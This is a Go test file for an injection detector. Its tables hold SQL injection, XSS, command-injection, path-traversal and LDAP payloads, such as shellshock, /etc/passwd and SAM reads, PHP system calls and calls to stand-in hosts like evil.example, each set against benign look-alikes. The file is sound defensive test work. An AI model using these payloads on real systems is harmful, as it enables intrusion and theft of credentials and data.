		"large object read":               {"data.arguments.username", "lo_get(16400)", ThreatSQLi, flagged},
		"server variable":                 {"data.arguments.id", "@@datadir", ThreatSQLi, flagged},
		"unfinished function probe":       {"data.arguments.id", "UPPER(", ThreatSQLi, flagged},
		"json operator tautology":         {"data.arguments.username", `OR '{"a":"b"}' ? 'a'`, ThreatSQLi, flagged},
		"jsonb containment":               {"data.arguments.username", `OR '{"b":2}'::jsonb <@ '{"a":1, "b":2}'::jsonb`, ThreatSQLi, flagged},
		"encoded delay in quotes":         {"data.arguments.username", "%20'sleep%2050'", ThreatSQLi, flagged},
		"query value in a URL":            {"data.arguments.url", "https://shop.example.com/p?category=books&id=admin%40juice-sh.op%5C%27%20or%20glob%20%28id%2Cid%29%3B", ThreatSQLi, rejected},
		"typographic quotes":              {"data.arguments.id", "’ OR ’1’=’1", ThreatSQLi, flagged},
		"postgres cast":                   {"data.arguments.id", "1+current_user::int", ThreatSQLi, flagged},
		"NUL after a separator":           {"data.arguments.username", ";%00", ThreatSQLi, flagged},
		"char concatenation":              {"data.arguments.username", "char(0x70)+char(0x65)", ThreatSQLi, flagged},
		"N-prefixed tautology in a URL":   {"data.arguments.url", "https://shop.example.com/p?id=%20or%20%27text%27%20%3D%20n%27text%27", ThreatSQLi, rejected},
		"except select":                   {"data.arguments.id", "1 except select 1,2", ThreatSQLi, flagged},
		"select all label":                {"data.arguments.label", "Select all", "", clean},
		"select the best option":          {"data.arguments.option", "select the best option", "", clean},
		"update and set in prose":         {"data.arguments.action", "Update the docs; set the flag later", "", clean},
		"plural possessive":               {"data.arguments.name", "the students' or teachers' lounge", "", clean},
		"quoted words in a name":          {"data.arguments.name", "Rock 'n' Roll", "", clean},
		"end of options":                  {"data.arguments.args", "-- file.txt", "", clean},
		"an answer":                       {"data.arguments.choice", "1 or 2", "", clean},
		"or at the start of prose":        {"data.arguments.value", "Or maybe not", "", clean},
		"spreadsheet CHAR":                {"data.arguments.formula", "=A1&CHAR(10)&B1&CHAR(10)&C1", "", clean},
		"jq select":                       {"data.arguments.jq", "select(.a == 1) | .b", "", clean},
		"statement in a q parameter":      {"data.arguments.url", "https://api.example.com/search?q=SELECT%20*%20FROM%20docs&limit=5", "", clean},
		"rust path":                       {"data.arguments.notes_ref", "std::string::String", "", clean},
		"catalog in a sql field":          {"data.arguments.sql", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'", "", clean},
		"catalog in a query statement":    {"data.arguments.query", "SELECT column_name FROM information_schema.columns WHERE table_name = 'users'", "", clean},
		"finished function call":          {"data.arguments.expr", "upper(name)", "", clean},
		"phone number in quotes":          {"data.arguments.phone", "\"+1 555 0100\"", "", clean},
		"O'Reilly in a URL query":         {"data.arguments.url", "https://example.com/search?q=O%27Reilly+books&page=2", "", clean},
		"filter expression in a URL":      {"data.arguments.url", "https://api.example.com/items?filter=status+eq+%27open%27", "", clean},
		"keyword search for union":        {"data.arguments.search", "union station parking", "", clean},
		"typographic apostrophe in prose": {"data.arguments.name", "Mr. O’Connor’s order", "", clean},
	})
}

// TestXSSShapes covers script that is not a finished tag (see
// detect_xss_shapes.go), with prose and markup that must stay clean.
func TestXSSShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"bare alert":                    {"data.arguments.name", "alert()", ThreatXSS, flagged},
		"bare confirm":                  {"data.arguments.name", "confirm()", ThreatXSS, flagged},
		"eval in a URL value":           {"data.arguments.url", "https://app.example.com/search?q=eval%28%272%20%2B%202%27%29", ThreatXSS, rejected},
		"new Function":                  {"data.arguments.name", "new Function('alert(1)')()", ThreatXSS, flagged},
		"atob":                          {"data.arguments.name", "atob('YWxlcnQoMSk=')", ThreatXSS, flagged},
		"template substitution in text": {"data.arguments.comment", "[].map.call`${eval}\\\\u{61}lert\\x281337\\x29`", ThreatXSS, flagged},
		"tagged template call":          {"data.arguments.name", "Reflect.apply.call`${navigation.navigate}`", ThreatXSS, flagged},
		"global indexed by an escape":   {"data.arguments.url", "https://app.example.com/search?q=self%5B%22%5Cx24%22%5D", ThreatXSS, rejected},
		"global indexed with comments":  {"data.arguments.comment", "(document/*foo*/)[\"cookie\"]", ThreatXSS, flagged},
		"spaced member access":          {"data.arguments.name", "document /*foo*/ .     cookie", ThreatXSS, flagged},
		"unfinished tag with a handler": {"data.arguments.url", "https://app.example.com/search?q=%3Cx%20onend%3D", ThreatXSS, rejected},
		"newline before a handler":      {"data.arguments.name", "<x%0Aonxxx=1", ThreatXSS, flagged},
		"junk before a handler":         {"data.arguments.name", "<\"onwebkitplaybacktargetavailabilitychanged=", ThreatXSS, flagged},
		"VML frame":                     {"data.arguments.name", "<v:vmlframe src=\"//evil.example/x.vml\">", ThreatXSS, flagged},
		"namespaced closing tag in URL": {"data.arguments.url", "https://app.example.com/search?q=%3C%2Fsvg%3Amask%3E", ThreatXSS, rejected},
		"full-width script tag":         {"data.arguments.url", "https://app.example.com/search?q=%EF%BC%9Cscript%20%EF%BC%9Ealert%281%29%EF%BC%9C%2Fscript%EF%BC%9E", ThreatXSS, rejected},
		"zero-padded entities":          {"data.arguments.name", "&#X000003c;svg onload=x&#X000003e;", ThreatXSS, flagged},
		"script URL after junk in href": {"data.arguments.comment", "<a href=\"\\xE2\\x80\\xA9javascript:alert(1)\" id=\"f\">test</a>", ThreatXSS, flagged},
		"css url javascript":            {"data.arguments.url", "https://app.example.com/search?q=a%3Dk%3Av%3Aw%3Bm%3Aurl%28javascript%3Aalert%281%29%29", ThreatXSS, rejected},
		"handler appended to a URL":     {"data.arguments.url", "https://app.example.com/p;onfocus=eval(atob(this.id))", ThreatXSS, rejected},
		"attribute breakout":            {"data.arguments.name", "'formaction=", ThreatXSS, flagged},
		"DOM access in text":            {"data.arguments.comment", "...(document.domain)...", ThreatXSS, flagged},
		"polyglot as a URL value":       {"data.arguments.url", "https://app.example.com/search?q=javascript%3A%22%2F%2A%27%2F%2A%60%2F%2A--%3E%3Chtml%20%22", ThreatXSS, rejected},
		"JSFuck":                        {"data.arguments.name", " !![]", ThreatXSS, flagged},
		"code arg in text":              {"data.arguments.comment", "alert(document.cookie)", ThreatXSS, flagged},
		"whole-value call in text":      {"data.arguments.comment", "prompt()", ThreatXSS, flagged},
		"alert the on-call team":        {"data.prompt", "Sleep for 5 minutes, then select the best option and alert the on-call team.", "", clean},
		"confirm() the dialog":          {"data.arguments.comment", "confirm() the dialog then prompt() the user", "", clean},
		"call named in a code span":     {"data.output", "Call `alert()` only for debugging; prefer toasts.", "", clean},
		"application function":          {"data.arguments.func", "confirm(order)", "", clean},
		"search for a function":         {"data.arguments.search", "alert() vs console.log()", "", clean},
		"search URL naming a function":  {"data.arguments.url", "https://www.google.com/search?q=how+to+use+confirm()+in+javascript", "", clean},
		"onboarding parameter":          {"data.arguments.url", "https://app.example.com/?onboarding=true&step=2", "", clean},
		"SOAP element in prose":         {"data.output", "The <soap:Envelope> element wraps the body.", "", clean},
		"full-width company name":       {"data.arguments.name", "ＡＢＣ株式会社", "", clean},
		"window lookup in prose":        {"data.output", "You can read it via window['config'] in the browser console.", "", clean},
		"document in parentheses":       {"data.output", "The document (document.pdf) is attached.", "", clean},
		"interval in prose":             {"data.output", "Use setInterval(poll, 1000) to refresh every second.", "", clean},
		"fractions":                     {"data.content", "<p>Price: ¾ cup sugar, ¼ cup butter</p>", "", clean},
		"front matter file content":     {"data.arguments.content", "---\ntitle: Post\n---\n# Hello {{ site.title }}\n<script src=\"/js/app.js\"></script>", "", clean},
		"comment with parentheses":      {"data.arguments.comment", "LGTM! <3 -- but please rename foo() to bar()", "", clean},
	})
}

// TestCmdInjectionShapes covers command lines without the classic
// separator + command (see detect_cmd_shapes.go) and the broadened
// command list, with file names, lists and prose that must stay clean.
func TestCmdInjectionShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"batch FOR":                       {"data.arguments.args", "FOR /F \"usebackq tokens=1,2* delims=,\" %G IN (\"C:\\x.txt\") DO ECHO %G", ThreatCmdInjection, flagged},
		"batch FOR with a long variable":  {"data.arguments.args", "for %variable in (set) do command", ThreatCmdInjection, flagged},
		"batch IF comparison":             {"data.arguments.filename", "if %n1% gtr %n2% echo %n1% is greater than %n2%", ThreatCmdInjection, rejected},
		"batch IF with brackets":          {"data.arguments.args", "IF [%1]==[] ECHO Value Missing", ThreatCmdInjection, flagged},
		"batch IF EXIST":                  {"data.arguments.args", "IF EXIST filename.txt (", ThreatCmdInjection, flagged},
		"batch IF CMDEXTVERSION":          {"data.arguments.hostname", "IF CMDEXTVERSION 1 GOTO start_process", ThreatCmdInjection, rejected},
		"bare command in a host":          {"data.arguments.hostname", "sleep 5", ThreatCmdInjection, rejected},
		"literal newline escape in host":  {"data.arguments.hostname", "10.0.0.5\\n/usr/bin/id\\n", ThreatCmdInjection, rejected},
		"PHP interpolation in a host":     {"data.arguments.hostname", "{${sleep(hexdec(dechex(20)))}} ", ThreatCmdInjection, rejected},
		"interpreter in a host":           {"data.arguments.hostname", "/usr/bin/python3 -m http.server", ThreatCmdInjection, rejected},
		"literal newline in a file name":  {"data.arguments.filename", "\\n/bin/ls -al\\n", ThreatCmdInjection, rejected},
		"windows type of a variable path": {"data.arguments.filename", "&& type %SYSTEMROOT%\\repair\\SAM", ThreatCmdInjection, rejected},
		"plus as a space":                 {"data.arguments.filename", "+|+dir+c:\\+|", ThreatCmdInjection, rejected},
		"encoded plus separators":         {"data.arguments.filename", "%26%26+|+dir c:%2f", ThreatCmdInjection, rejected},
		"dir before a drive":              {"data.arguments.args", "||+dir|c:\\", ThreatCmdInjection, flagged},
		"process substitution":            {"data.arguments.args", "<(cat file)", ThreatCmdInjection, flagged},
		"brace expansion":                 {"data.arguments.filename", "{,$'whoami',}", ThreatCmdInjection, rejected},
		"brace alternatives in a word":    {"data.arguments.filename", "c{a,oun}t", ThreatCmdInjection, rejected},
		"shellshock":                      {"data.arguments.user_agent", "() { :;}; /bin/bash -c id", ThreatCmdInjection, rejected},
		"PHP system":                      {"data.arguments.filename", ";system('cat%20/etc/passwd')", ThreatCmdInjection, rejected},
		"PHP passthru":                    {"data.arguments.name", "passthru($_GET['c'])", ThreatCmdInjection, flagged},
		"phpinfo":                         {"data.arguments.name", "phpinfo()", ThreatCmdInjection, flagged},
		"prefix command":                  {"data.arguments.args", "nohup sh -c whoami", ThreatCmdInjection, flagged},
		"which netcat":                    {"data.arguments.args", "which netcat", ThreatCmdInjection, flagged},
		"recon command alone":             {"data.arguments.args", "whoami", ThreatCmdInjection, flagged},
		"net view":                        {"data.arguments.args", "net view", ThreatCmdInjection, flagged},
		"empty backticks in a word":       {"data.arguments.args", "ping`` 127.0.0.1", ThreatCmdInjection, flagged},
		"empty substitution in a word":    {"data.arguments.args", "pi$()ng 127.0.0.1", ThreatCmdInjection, flagged},
		"quoted letters":                  {"data.arguments.args", "ti''me curl coreruleset.org", ThreatCmdInjection, flagged},
		"glob for passwd":                 {"data.arguments.filename", "cat+/et*/*wd", ThreatCmdInjection, rejected},
		"bracket glob":                    {"data.arguments.args", "/etc/pas[s]wd", ThreatCmdInjection, flagged},
		"tool with a sub-binary":          {"data.arguments.args", "time; chef-vault -i secret", ThreatCmdInjection, flagged},
		"chmod after a separator":         {"data.arguments.name", "x; chmod 777 /tmp/x", ThreatCmdInjection, flagged},
		"archive tool in a file name":     {"data.arguments.filename", "gunzip -c /var/log/sensitive_log_file.gz", ThreatCmdInjection, rejected},
		"sensitive file read":             {"data.arguments.args", "type C:\\WINNT\\repair\\SAM", ThreatCmdInjection, flagged},
		"timing probe":                    {"data.arguments.args", "sleep 10", ThreatCmdInjection, flagged},
		"shell from a variable":           {"data.arguments.filename", "$SHELL -c \"echo hi\"", ThreatCmdInjection, rejected},
		"variable run as a command":       {"data.arguments.filename", "garb=adduse[r];$garb pizza", ThreatCmdInjection, rejected},
		"semicolon in a path":             {"data.arguments.path", "notes;draft.txt", "", clean},
		"semicolon in a file name":        {"data.arguments.filename", "Q1 report; final (v2).xlsx", "", clean},
		"pipeline ending in a filter":     {"data.arguments.args", "-la | sort", "", clean},
		"tools in a list":                 {"data.arguments.tags", "MySQL | Redis | Docker", "", clean},
		"tools separated by semicolons":   {"data.arguments.skills", "Docker; Kubernetes; Terraform", "", clean},
		"time in a note":                  {"data.arguments.reminder", "Lunch; time 12:30", "", clean},
		"call in a note":                  {"data.arguments.reminder", "Meeting; call 555-1234 after", "", clean},
		"sleep in a file name":            {"data.arguments.filename", "sleep 10 hours of rain.mp3", "", clean},
		"tool name in a file name":        {"data.arguments.filename", "curl examples.md", "", clean},
		"IF in a file name":               {"data.arguments.filename", "IF statement cheat sheet.pdf", "", clean},
		"a question":                      {"data.arguments.label", "Which cat is yours?", "", clean},
		"server name with a space":        {"data.arguments.server", "GitHub MCP", "", clean},
		"host and port":                   {"data.arguments.host", "db.internal:5432", "", clean},
		"IPv6 host":                       {"data.arguments.host", "[::1]:8080", "", clean},
		"wildcard domain":                 {"data.arguments.domain", "*.example.com", "", clean},
		"log glob":                        {"data.arguments.path_glob", "/var/log/*.log", "", clean},
		"windows shell path":              {"data.arguments.path", `C:\Windows\System32\cmd.exe`, "", clean},
		"quote in a name":                 {"data.arguments.label", "It's 5 o'clock somewhere", "", clean},
		"domain user":                     {"data.arguments.username", `CORP\jdoe`, "", clean},
		"npm script":                      {"data.arguments.run", "npm test", "", clean},
		"bash script":                     {"data.arguments.deploy", "bash scripts/deploy.sh", "", clean},
		"loop in a code span":             {"data.output", "In bash: `for f in *.txt; do wc -l \"$f\"; done`", "", clean},
	})
}

// TestPathAndLDAPShapes covers malformed escapes around "..", five- and
// six-byte overlong forms, and single LDAP specials.
func TestPathAndLDAPShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"malformed escape between dots":   {"data.arguments.path", "..%c1%8s..%c1%8s..%c1%8s..%c1%8sboot.ini", ThreatPathTraversal, rejected},
		"private-use escape after dots":   {"data.arguments.file", "/..%uEFC8..%uEFC8..%uEFC8..%uEFC8boot.ini", ThreatPathTraversal, rejected},
		"junk separators to passwd":       {"data.arguments.file", "%5C..%c0%9vetc%c0%9vpasswd", ThreatPathTraversal, rejected},
		"lax overlong dots and hex slash": {"data.arguments.path", "%c0%ee%c0%ee0x2f%c0%ee%c0%ee0x2fetc0x2fissue", ThreatPathTraversal, rejected},
		"five-byte overlong":              {"data.arguments.path", "%f8%80%80%80%ae%f8%80%80%80%ae/%f8%80%80%80%ae%f8%80%80%80%ae/etc/passwd", ThreatPathTraversal, rejected},
		"accented folder two up":          {"data.arguments.path", "../../données/rapport.pdf", "", clean},
		"percent sign in a folder":        {"data.arguments.path", "../../50% off/flyer.png", "", clean},
		"every special in a filter":       {"data.arguments.filter", "*()|&'", ThreatLDAPInjection, rejected},
		"encoded parenthesis in a filter": {"data.arguments.filter", "%28", ThreatLDAPInjection, rejected},
		"encoded wildcard and or":         {"data.arguments.username", "%2A%7C", ThreatLDAPInjection, flagged},
		"escaped parenthesis":             {"data.arguments.username", `\29`, ThreatLDAPInjection, flagged},
		"wildcard fragment":               {"data.arguments.username", "*)*", ThreatLDAPInjection, flagged},
		"LDAP URL with a filter":          {"data.arguments.username", "ldap://evil.example/dc=evil,dc=com??sub?(objectClass=*)", ThreatLDAPInjection, flagged},
		"LDAP URL filter tail":            {"data.arguments.username", "?base??(objectClass=*)", ThreatLDAPInjection, flagged},
		"wildcard alone in a filter":      {"data.arguments.filter", "*", "", clean},
		"search filter syntax":            {"data.arguments.filter", "status:open label:bug", "", clean},
		"exclamation in a name":           {"data.arguments.value", "(!)", "", clean},
		"empty tuple":                     {"data.arguments.args", "()", "", clean},
	})
}

func TestSQLiObfuscationShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"comment as whitespace":              {"data.arguments.id", "DROP/*comment*/sampletable", ThreatSQLi, flagged},
		"comments between select and from":   {"data.arguments.id", "SELECT/*avoid-spaces*/password/**/FROM/**/Members", ThreatSQLi, flagged},
		"keyword split by an empty comment":  {"data.arguments.username", "DR/**/OP/*bypass deny listing*/sampletable", ThreatSQLi, flagged},
		"comment in prose":                   {"data.arguments.name", "int x = 0 /* init */ then x", "", clean},
		"comment glued to a non-SQL word":    {"data.arguments.name", "return/*early*/value", "", clean},
		"scientific notation call":           {"data.arguments.id", "1.e(ascii", ThreatSQLi, flagged},
		"scientific notation qualified name": {"data.arguments.username", "1.e.tables", ThreatSQLi, flagged},
		"outline numbering":                  {"data.arguments.name", "see clause 1.e(ii) and 1.e.g. below", "", clean},
		"version number":                     {"data.arguments.name", "release v2.1.e.final", "", clean},
		"leading HAVING on an aggregate":     {"data.arguments.id", " HAVING COUNT(CustomerID) > 5", ThreatSQLi, flagged},
		"having in prose":                    {"data.arguments.name", "Having trouble (again) > ask", "", clean},
		"set operation on VALUES":            {"data.arguments.id", "except values(1,2)", ThreatSQLi, flagged},
		"except values in prose":             {"data.arguments.name", "all fields except values (see docs)", "", clean},
		"concatenation then comment":         {"data.arguments.username", "x'+email--", ThreatSQLi, flagged},
		"division then comment":              {"data.arguments.username", "x'/email--", ThreatSQLi, flagged},
		"subtraction then comment":           {"data.arguments.id", "x'-email--", ThreatSQLi, flagged},
		"encoded concatenation then comment": {"data.arguments.username", "x'%2Bemail--", ThreatSQLi, flagged},
		"apostrophe and a dash":              {"data.arguments.name", "O'Brien-Smith", "", clean},
		"sqlmap marker beside FLOOR":         {"data.arguments.username", "4440,1))),0x7170716271,FLOOR", ThreatSQLi, flagged},
		"hex number alone":                   {"data.arguments.name", "0x7170716271", "", clean},
		"select of pg_sleep":                 {"data.arguments.id", "select pg_sleep", ThreatSQLi, flagged},
		"select sleep label":                 {"data.arguments.label", "Select sleep mode", "", clean},
		"backup database to disk":            {"data.arguments.username", `BACKUP database master to disk='\\10.0.0.9\s\b.dat'`, ThreatSQLi, flagged},
		"backup in prose":                    {"data.arguments.name", "backup log files to disk before upgrading", "", clean},
		"leading OR with a literal IN list":  {"data.arguments.username", " or 'whatever' in ('whatever')", ThreatSQLi, flagged},
		"or with an IN list of words":        {"data.arguments.name", "or 'both' in (the list)", "", clean},
		"modulo then comment":                {"data.arguments.username", "x'%email--", ThreatSQLi, flagged},
		"literal compared with an open one":  {"data.arguments.id", "'3085'='30", ThreatSQLi, flagged},
		"inequality with an open literal":    {"data.arguments.username", "'x'!='y", ThreatSQLi, flagged},
		"two closed literals compared":       {"data.arguments.name", "'quoted'='value' here", "", clean},
		"leading separator and a verb":       {"data.arguments.id", ";truncate[xx", ThreatSQLi, flagged},
		"leading semicolon in prose":         {"data.arguments.name", ";drop me a line", "", clean},
		"select of a session function":       {"data.arguments.id", "select session_user;", ThreatSQLi, flagged},
		"select label":                       {"data.arguments.label", "Select user", "", clean},
		"open sysdate call":                  {"data.arguments.username", "sysdate(", ThreatSQLi, flagged},
	})
}

func TestXSSEncodingShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"zero-padded decimal entity":       {"data.arguments.comment", "&#0000060;", ThreatXSS, flagged},
		"zero-padded entity, no semicolon": {"data.arguments.name", "&#0000060", ThreatXSS, flagged},
		"zero-padded hex entity":           {"data.arguments.name", "&#X00003c;", ThreatXSS, flagged},
		"entity in a URL query":            {"data.arguments.url", "https://app.example.com/search?q=%26%23060%3B", ThreatXSS, rejected},
		"ampersand entity in prose":        {"data.arguments.name", "Smith &amp; Sons", "", clean},
		"spaced-out form tag":              {"data.arguments.name", "1234<f o r m", ThreatXSS, flagged},
		"spaced-out dialog tag":            {"data.arguments.name", "$<d i a l o g", ThreatXSS, flagged},
		"spaced letters that are no tag":   {"data.arguments.name", "a <b c d> e", "", clean},
		"UTF-7 after URL decoding":         {"data.arguments.name", "%2bADw-script%2bAD4-", ThreatXSS, flagged},
		"US-ASCII script tag":              {"data.arguments.name", "¼script¾alert(¢XSS¢)¼/script¾", ThreatXSS, flagged},
		"US-ASCII in a URL query":          {"data.arguments.url", "https://app.example.com/search?q=%C2%BCscript%C2%BEalert%28%C2%A2XSS%C2%A2%29%C2%BC%2Fscript%C2%BE", ThreatXSS, rejected},
		"meta charset UTF-7":               {"data.arguments.name", `<meta charset="x-imap4-modified-utf7">&ADz&AGn`, ThreatXSS, flagged},
		"meta charset UTF-8":               {"data.arguments.name", "Café — UTF-8 charset", "", clean},
		"fractions in a recipe":            {"data.arguments.name", "¼ cup sugar, ¾ cup flour, 50¢", "", clean},
	})
}

func TestSQLiMoreShapes(t *testing.T) {
	t.Parallel()
	runDetectTable(t, map[string]detectCase{
		"hex literal spelling a statement":   {"data.arguments.username", "0x77616974666F722064656C61792027303A303A313027 ...", ThreatSQLi, flagged},
		"utf-16 hex literal for EXEC":        {"data.arguments.id", "0x730065006c0065006300740020004000400076006500 exec(@q)", ThreatSQLi, flagged},
		"hash as a hex literal":              {"data.arguments.name", "0x5f3759df8a2c4e1b9d7f00112233445566778899", "", clean},
		"leading WHERE on literals":          {"data.arguments.id", " WHERE 1=1 AND 1=0--", ThreatSQLi, flagged},
		"alias then WHERE":                   {"data.arguments.username", " AS INJECTX WHERE 1=1 AND 1=0", ThreatSQLi, flagged},
		"where in prose":                     {"data.arguments.name", "where 1 = the first step", "", clean},
		"number glued to OR tautology":       {"data.arguments.id", "1or1=1", ThreatSQLi, flagged},
		"glued words with numbers":           {"data.arguments.name", "2or3=5 options", "", clean},
		"number LIKE itself":                 {"data.arguments.id", "42 like 42", ThreatSQLi, flagged},
		"column GLOB itself after AND":       {"data.arguments.username", "admin@juice-sh.op' and password glob password;", ThreatSQLi, flagged},
		"like in prose":                      {"data.arguments.name", "people like people who listen", "", clean},
		"open IF comparing a number":         {"data.arguments.username", "if(1234=", ThreatSQLi, flagged},
		"if in prose":                        {"data.arguments.name", "if(you=me", "", clean},
		"comment closed before a comparison": {"data.arguments.username", "password:*/=1--", ThreatSQLi, flagged},
		"closed comment in prose":            {"data.arguments.name", "/* note */ = see below", "", clean},
		"credential column cast":             {"data.arguments.username", "password::int", ThreatSQLi, flagged},
		"cast to double precision":           {"data.arguments.id", "function(foo)::double precision", ThreatSQLi, flagged},
		"type annotation":                    {"data.arguments.value", "a::int", "", clean},
		"char code run":                      {"data.arguments.username", "${@print(chr(122).chr(97).chr(112).chr(95))}", ThreatSQLi, flagged},
		"two char calls in prose":            {"data.arguments.name", "use chr(65) or chr(66)", "", clean},
		"open CASE WHEN":                     {"data.arguments.id", " case when condition1 then result1", ThreatSQLi, flagged},
		"complete CASE expression":           {"data.arguments.order", "CASE WHEN status='open' THEN 0 ELSE 1 END", "", clean},
		"case when in prose":                 {"data.arguments.name", "Case when it rains, then stay in.", "", clean},
		"ALTER TABLE statement":              {"data.arguments.id", "ALTER TABLE `mass_mails` CHANGE `receivers` `receivers` ENUM('A','B')", ThreatSQLi, flagged},
		"alter table in prose":               {"data.arguments.name", "alter the table, then add rows", "", clean},
		"bare dynamic SQL procedure":         {"data.arguments.username", "sp_executesql", ThreatSQLi, flagged},
		"bare open INSERT":                   {"data.arguments.id", "insert(", ThreatSQLi, flagged},
		"insert in prose":                    {"data.arguments.name", "insert (optional) text", "", clean},
		"chained literal comparison":         {"data.arguments.id", `'{"a":2,"c":[4,5,{"f":7}]}' < '$.c[2].f' = 7`, ThreatSQLi, flagged},
		"quoted ranking":                     {"data.arguments.name", `"a" < "b" is true`, "", clean},
		"separator then comment":             {"data.arguments.id", "; --", ThreatSQLi, flagged},
		"semicolon in prose":                 {"data.arguments.name", "done; -- more later", "", clean},
		"leading LIKE wildcard":              {"data.arguments.username", " like '%'", ThreatSQLi, flagged},
		"like a percentage":                  {"data.arguments.name", "like '50%' of them", "", clean},
		"OR comparing a function call":       {"data.arguments.username", `OR json_extract('{"id": 14}', '$.id') = '14'`, ThreatSQLi, flagged},
		"or with a parenthetical":            {"data.arguments.name", "or (maybe) = fine", "", clean},
		"doubled quotes tautology":           {"data.arguments.url", "https://shop.example.com/api/products?id=%20or%20%22%22a%22%22%3D%22%22a%22", ThreatSQLi, rejected},
		"quote separator then PRINT":         {"data.arguments.username", "';print'", ThreatSQLi, flagged},
		"semicolon then print in prose":      {"data.arguments.name", "; print it later", "", clean},
		"CREATE TABLE after punctuation":     {"data.arguments.username", "/CREATE TABLE Persons", ThreatSQLi, flagged},
		"create table in prose":              {"data.arguments.name", "/create table of contents", "", clean},
		"doubled quotes in CSV text":         {"data.arguments.name", `He said ""hello"" twice`, "", clean},
	})
}
